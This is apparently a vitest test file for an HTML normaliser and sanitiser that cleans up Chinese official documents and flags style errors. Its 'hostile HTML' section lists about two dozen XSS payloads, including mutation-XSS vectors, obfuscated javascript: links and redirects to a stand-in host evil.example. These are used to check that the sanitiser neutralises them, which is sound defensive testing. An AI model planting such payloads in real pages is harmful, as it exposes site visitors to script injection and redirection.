import { describe, expect, it } from 'vitest';
import { canonicalText } from '../../../lib/domain/content/canonical-text.ts';
import { houseStyle } from '../../../lib/domain/content/house-style.ts';
import { parseBody } from '../../../lib/domain/content/parse-body.ts';
import type { BodyFormat } from '../../../lib/domain/item.ts';

const style = (content: string, format: BodyFormat = 'html') => houseStyle(parseBody({ format, content }));
const changesOf = (content: string): Readonly<Record<string, number>> =>
  Object.fromEntries(style(content).changes.map(({ code, count }) => [code, count]));
const flagsOf = (content: string): readonly string[] => style(content, 'text').flags.map(({ code }) => code);

describe('houseStyle', () => {
  it.each([
    { what: 'fonts and colours', from: '<p style="color:red"><font size="5">甲</font></p>', to: '<p>甲</p>' },
    { what: 'indentation by characters', from: '<p>　　甲　乙&nbsp;</p>', to: '<p>甲　乙</p>' },
    {
      what: 'indentation within emphasis',
      from: '<p><b>　</b><b>&nbsp; 甲</b></p>',
      to: '<p><strong>甲</strong></p>',
    },
    { what: 'empty paragraphs', from: '<p>甲</p><p>&nbsp;</p><p></p><p>乙</p>', to: '<p>甲</p><p>乙</p>' },
    { what: 'line breaks', from: '<div>甲<br><br>　　乙<br>丙</div>', to: '<p>甲</p><p>乙</p><p>丙</p>' },
    {
      what: 'emphasis across a line break',
      from: '<b>甲<br></b>乙',
      to: '<p><strong>甲</strong></p><p>乙</p>',
    },
    {
      what: 'containers',
      from: '<div><section>甲<div>乙</div>丙</section></div>',
      to: '<p>甲</p><p>乙</p><p>丙</p>',
    },
    {
      what: 'a frame of one cell',
      from: '<table><tr><td><p>甲</p><p>乙</p></td></tr></table>',
      to: '<p>甲</p><p>乙</p>',
    },
    {
      what: 'source line ends between Chinese characters',
      from: '<p>甲\n  乙 a\n  b</p>',
      to: '<p>甲乙 a b</p>',
    },
    {
      what: 'a centred first line',
      from: '<p align="center">甲</p><p style="text-align:center">乙</p>',
      to: '<h2>甲</h2><p>乙</p>',
    },
    { what: 'a heading of the first level', from: '<h1>甲</h1><h3>乙</h3>', to: '<h2>甲</h2><h3>乙</h3>' },
    {
      what: 'paragraphs in cells',
      from: '<table><tr><td><p>甲</p><p>乙</p></td><td></td></tr></table>',
      to: '<table><tbody><tr><td>甲<br>乙</td><td></td></tr></tbody></table>',
    },
    {
      what: 'stray content in lists',
      from: '<ol><p>前</p><li>甲</li><p>乙</p></ol>',
      to: '<p>前</p><ol><li>甲<br>乙</li></ol>',
    },
    {
      what: 'text raised by style',
      from: '<p>m<span style="vertical-align:super">2</span></p>',
      to: '<p>m<sup>2</sup></p>',
    },
    {
      what: 'quotations that the browser marks',
      from: '<q>甲<br><q>乙</q></q>',
      to: '<p>“甲</p><p>‘乙’”</p>',
    },
    { what: 'preformatted lines', from: '<pre>甲\n  乙</pre>', to: '<p>甲</p><p>乙</p>' },
  ])('normalises $what', ({ from, to }) => {
    expect(style(from).html).toBe(to);
  });

  it.each([
    '<table><caption>表</caption><thead><tr><th colspan="2">甲</th></tr></thead><tbody><tr><td rowspan="2">1</td><td>2</td></tr><tr><td>3</td></tr></tbody></table>',
    '<ol start="3" type="a" reversed><li>甲</li><li value="9">乙<ul><li>丙</li></ul></li></ol>',
    '<p><em>甲</em><u>乙</u><s>丙</s><del>丁</del><ins>戊</ins>H<sub>2</sub>O<code>己</code></p>',
    '<p><a href="https://www.example.gov.cn/" rel="noopener">甲</a><img src="/a.png" alt="图"></p>',
    '<blockquote><p>甲</p></blockquote><hr><h4>乙</h4>',
    '<p><ruby>汉<rt>han</rt></ruby></p>',
  ])('keeps %s', (html) => {
    expect(style(html).html).toBe(html);
  });

  it('makes a paragraph of every line of text and shows markup in it as text', () => {
    expect(style('　　甲\n\n<b>乙</b> & 丙', 'text').html).toBe(
      '<p>甲</p><p>&#x3C;b>乙&#x3C;/b> &#x26; 丙</p>',
    );
  });

  it('keeps the numbers of a Markdown list as they were written', () => {
    expect(style('1) 甲\n3) 乙', 'markdown').html).toBe('<p>1) 甲</p><p>3) 乙</p>');
  });

  it('changes nothing of its own result', () => {
    const once = style(
      '<div align="center">　标题</div><p>　甲<br>乙</p><table><tr><td><p>1</p><td>2</table>',
    ).html;
    expect(style(once)).toEqual({ html: once, changes: [], flags: [] });
  });
});

describe('the changes in the answer', () => {
  it.each([
    { from: '<p>　　甲</p><p>&emsp;乙</p><p>\n  丙</p>', changes: { 'indentation-by-characters': 2 } },
    { from: '<p>甲</p><p></p><p><br></p>', changes: { 'empty-paragraph': 2 } },
    {
      from: '<p>甲<br>乙</p><table><tr><td>1<br>2</td><td>3</td></tr></table>',
      changes: { 'line-break': 1 },
    },
    { from: '<p style="x" class="y">甲</p>', changes: { formatting: 2 } },
    { from: '<p onclick="x()">甲</p><script>x()</script>', changes: { script: 1, 'event-handler': 1 } },
    { from: '<a href="javascript:x()">甲</a><img src="file:///C:/a.png">', changes: { link: 1, image: 1 } },
    {
      from: '<p>甲<!-- 乙 --><span style="display:none">丙</span></p><iframe></iframe>',
      changes: { comment: 1, hidden: 1, embedded: 1 },
    },
    {
      from: '<style></style><title></title><input>甲<h1>乙</h1>',
      changes: { stylesheet: 1, 'page-head': 1, 'form-control': 1, 'heading-level': 1 },
    },
    { from: '<p>甲</p>', changes: {} },
  ])('$from: $changes', ({ from, changes }) => {
    expect(changesOf(from)).toEqual(changes);
  });

  it('are sentences in both languages that say how many', () => {
    expect(style('甲<!-- 1 --><!-- 2 -->').changes).toEqual([
      { code: 'comment', count: 2, message: { zh: '已去除2处注释。', en: '2 comments were removed.' } },
    ]);
  });
});

describe('the flags', () => {
  it.each([
    { text: '虚政发[2026]3号', flags: ['document-number-brackets'] },
    { text: '虚政发（2026）3号', flags: ['document-number-brackets'] },
    { text: '虚政办发2026-3号', flags: ['document-number-brackets'] },
    { text: '虚政发〔2026〕3号', flags: [] },
    { text: '请各部门认真执行,不得延误。', flags: ['half-width-punctuation'] },
    { text: '增长3.5,见www.example.gov.cn', flags: [] },
    { text: '一、总体\n（一）目标\n1．指标\n（1）数值\n二、措施', flags: [] },
    { text: '一、总体\n1．指标', flags: ['heading-levels-out-of-order'] },
    { text: '（一）目标', flags: ['heading-levels-out-of-order'] },
    { text: '一、总体\n2026年完成\n3.5%的增长', flags: [] },
  ])('$text: $flags', ({ text, flags }) => {
    expect(flagsOf(text)).toEqual(flags);
  });

  it('point at the body and quote the first place', () => {
    expect(style('<p>依据虚政发[2026]3号。</p>').flags).toEqual([
      expect.objectContaining({
        pointer: '/body/content',
        message: expect.objectContaining({ zh: expect.stringContaining('虚政发[2026]3号') }),
      }),
    ]);
  });

  it('leave the characters alone', () => {
    expect(style('<p>虚政发[2026]3号,请办理</p>').html).toBe('<p>虚政发[2026]3号,请办理</p>');
  });
});

const HOSTILE = [
  '<script>alert(1)</script>甲',
  '<img src=x onerror=alert(1)>甲',
  '<a href="javascript:alert(1)">甲</a>',
  '<a href="java&#9;script:alert(1)">甲</a>',
  '<a href=" &#1;jAvAsCrIpT&colon;alert(1)">甲</a>',
  '<a href="data:text/html,<script>alert(1)</script>">甲</a>',
  '<a href="vbscript:x">甲</a>',
  '<img src="data:image/svg+xml;base64,PHN2Zy8+">甲',
  '<svg onload=alert(1)><script>alert(1)</script></svg>甲',
  '<svg><style><img src=x onerror=alert(1)></style></svg>甲',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;"></table></mtext></math>甲',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)></style></mglyph></form></mtext></math>甲',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>甲',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>甲',
  '<object data="x"></object><embed src="x">甲',
  '<base href="//evil.example/"><meta http-equiv="refresh" content="0;url=//evil.example/">甲',
  '<style>@import "//evil.example/x.css"</style><link rel=stylesheet href=x>甲',
  '<p style="background:url(javascript:alert(1))">甲</p>',
  '<form action="//evil.example/"><button formaction="javascript:alert(1)">甲</button></form>',
  '<template><script>alert(1)</script></template>甲',
  '<p id="location" name="document" class="x" data-x="y" tabindex="1">甲</p>',
  '<<script>script>alert(1)<</script>/script>甲',
  '<a href="http://x" target="_blank" onmouseover="x" ping="//evil.example/">甲',
  '<textarea><img src=x onerror=alert(1)></textarea>甲',
  '<b><i><p>甲</b></i></table></div></p>',
  '甲<!--><script>alert(1)</script>-->',
  '甲<plaintext><script>alert(1)</script>',
];
const TAG = /<\/?([a-z0-9]+)((?: [a-z]+(?:="[^"]*")?)*)>/g;
const SAFE_TAGS = new Set(['p', 'h2', 'a', 'img', 'strong', 'em', 'table', 'tbody', 'tr', 'td']);
const SAFE_ATTRIBUTES = /^(?: (?:href="http[^"]*"|rel="noopener"|src="x"|alt=""))*$/;

describe('hostile HTML', () => {
  it.each(HOSTILE)('leaves nothing active of %s', (content) => {
    const { html } = style(content);
    expect(html).toContain('甲');
    expect(html.replace(TAG, '')).not.toMatch(/<[a-z!/]/i);
    for (const [, tag, attributes] of html.matchAll(TAG)) {
      expect(SAFE_TAGS).toContain(tag);
      expect(attributes).toMatch(SAFE_ATTRIBUTES);
    }
  });

  it.each(HOSTILE)('reads the same as its safe copy: %s', (content) => {
    const parsed = parseBody({ format: 'html', content });
    const copy = parseBody({ format: 'html', content: houseStyle(parsed).html });
    expect(canonicalText(copy)).toBe(canonicalText(parsed));
  });

  it('finds nothing to read in scripts alone', () => {
    expect(
      canonicalText(parseBody({ format: 'html', content: '<script>甲</script><style>乙</style>' })),
    ).toBe('');
  });
});
